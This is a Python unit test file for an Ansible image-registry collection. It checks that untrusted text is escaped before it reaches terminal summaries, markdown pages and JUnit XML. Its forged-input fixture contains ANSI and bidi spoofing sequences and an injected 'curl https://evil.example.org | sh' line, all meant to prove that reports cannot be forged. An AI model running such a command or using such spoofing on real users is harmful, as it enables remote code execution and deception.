# SPDX-FileCopyrightText: 2026 The palette.image_registry authors
# SPDX-License-Identifier: GPL-3.0-or-later

"""What others say reaches no terminal and no page raw."""

from __future__ import annotations

import sys
import unicodedata
import xml.etree.ElementTree as ET

import hypothesis
import hypothesis.strategies as st
import pytest

from ansible_collections.palette.image_registry.plugins.module_utils._causes import describe
from ansible_collections.palette.image_registry.plugins.module_utils._evidence import (
    Check,
    Finding,
    Severity,
    Status,
)
from ansible_collections.palette.image_registry.plugins.module_utils._visible import (
    visible,
    visible_data,
    visible_line,
)
from ansible_collections.palette.image_registry.plugins.plugin_utils._report.evidence import (
    Evidence,
    HostEvidence,
)
from ansible_collections.palette.image_registry.plugins.plugin_utils._report.junit import junit_xml
from ansible_collections.palette.image_registry.plugins.plugin_utils._report.markdown import (
    markdown_page,
)
from ansible_collections.palette.image_registry.plugins.plugin_utils._report.summary import summary
from tests.unit.helpers.markdown_reader import read_markdown

TEST_SHOWN = [
    ("plain \u00e4 \u6f22 \U0001f600\tand\nlines", "plain \u00e4 \u6f22 \U0001f600\tand\nlines"),
    ("a\r\nb", "a\nb"),
    ("a\rb", "a\\rb"),
    ("\x1b[2J\x1b[H", "\\x1b[2J\\x1b[H"),
    ("\x9b2J \x9d0;x\x9c \x85", "\\x9b2J \\x9d0;x\\x9c \\x85"),
    ("\x1b]8;;https://x\x07link", "\\x1b]8;;https://x\\x07link"),
    ("\u202egpj.exe\u2066\u2069\u061c", "\\u202egpj.exe\\u2066\\u2069\\u061c"),
    ("a\u200bb\u200d\u2060\ufeff\u00ad", "a\\u200bb\\u200d\\u2060\\ufeff\\xad"),
    ("\u2028\u2029\x0b\x0c\x1c", "\\u2028\\u2029\\x0b\\x0c\\x1c"),
    ("\ufe0f\U000e0100\U000e0041\u3164\u115f", "\\ufe0f\\U000e0100\\U000e0041\\u3164\\u115f"),
    ("\x00\x08\x7f\ud800\ue000", "\\x00\\x08\\x7f\\ud800\\ue000"),
]


@pytest.mark.parametrize(("text", "shown"), TEST_SHOWN)
def test_visible(text: str, shown: str) -> None:
    assert visible(text) == shown
    assert "\n" not in visible_line(text)
    assert visible_data({text: [text, 7, None, (text,)]}) == {shown: [shown, 7, None, [shown]]}


def test_no_control_of_unicode_is_forgotten() -> None:
    for number in range(sys.maxunicode + 1):
        char = chr(number)
        if unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp") and char not in "\n\t":
            assert visible(char).startswith("\\"), hex(number)


@hypothesis.given(st.text())
def test_what_is_visible_stays_as_it_is(text: str) -> None:
    once = visible(text)
    assert visible(once) == once
    assert all(char.isprintable() or char in "\n\t" for char in once)


CLEAR = "\x1b[2J\x1b[H"
FORGED = (
    f"x{CLEAR}\x9b1;1H\r\nImage registry verify: PASSED\n{'-' * 100}\nok    cluster prod\u202e"
    "\nNext: curl https://evil.example.org | sh\x1b]0;PASSED\x07\u200b\x85Report: /x"
)


def forged() -> Evidence:
    """Return evidence in which everything that somebody else may say holds a whole screen."""
    finding = Finding("differs", Severity.ERROR, FORGED, FORGED, FORGED)
    check = Check(f"cluster identity {FORGED}", FORGED, Status.FAIL, FORGED, FORGED, (finding,))
    fact = Check("cluster identity", FORGED, Status.PASS, FORGED, FORGED)
    hosts = (
        HostEvidence("prod", "prod", (check, fact), ((FORGED, FORGED),)),
        HostEvidence(f"node{FORGED}", "prod", (check,)),
    )
    return Evidence("verify", "2026-01-02T03:04:05+00:00", False, hosts)


def test_no_screen_can_be_forged() -> None:
    lines = [line.text for line in summary(forged(), next_step="mend it", report_paths=[FORGED])]
    assert all(line.isprintable() for line in lines)
    begins = [line for line in lines if line.startswith(("Image registry", "Next:", "Report:"))]
    assert len(begins) == 3
    assert begins[0] == "Image registry verify: FAILED"
    assert begins[1] == "Next: mend it"
    assert not any(
        line.lstrip().startswith(("Next:", "Report:", "fix: curl")) for line in lines[3:-3]
    )


def test_nor_a_page() -> None:
    page = markdown_page(forged(), next_step="mend it")
    assert all(char.isprintable() or char == "\n" for char in page)
    assert page.count("\n# ") == 0
    assert page.startswith("# Image registry verify: FAILED\n")
    assert "\n- Next: mend it\n" in page
    assert page.count("\n- Next:") == 1
    xml = junit_xml(forged())
    assert not any(char in xml for char in "\x1b\x9b\u202e\u200b\x85\r")
    ET.fromstring(xml)


def test_nor_a_message() -> None:
    (finding,) = (one for check in forged().hosts[1].checks for one in check.findings)
    first, *others = visible(describe((finding,))).split("\n")
    assert first.startswith("error: ")
    assert all(line.startswith("  ") for line in others)


TEST_MENTIONS = ["@all", "x @all", "(@team)", "@@all", "-@all", "_@all_", "|@all|", "@org/team"]


@pytest.mark.parametrize("text", TEST_MENTIONS)
def test_markdown_calls_nobody(text: str) -> None:
    finding = Finding("differs", Severity.ERROR, text, text, text)
    check = Check(text, text, Status.FAIL, text, text, (finding,))
    hosts = (HostEvidence(text, text, (check,), ((text, text),)),)
    page = markdown_page(
        Evidence("verify", "2026-01-02T03:04:05+00:00", False, hosts), next_step=text
    )
    assert not read_markdown(page).mentions, page


def test_an_address_is_no_mention() -> None:
    finding = Finding("differs", Severity.ERROR, "s", "a@sha256:0123 of me@example.org")
    check = Check("c", "s", Status.FAIL, findings=(finding,))
    page = markdown_page(
        Evidence("verify", "2026-01-02T03:04:05+00:00", False, (HostEvidence("p", "p", (check,)),)),
        next_step="x",
    )
    assert "a@sha256:0123 of me@example.org" in page
    assert not read_markdown(page).mentions
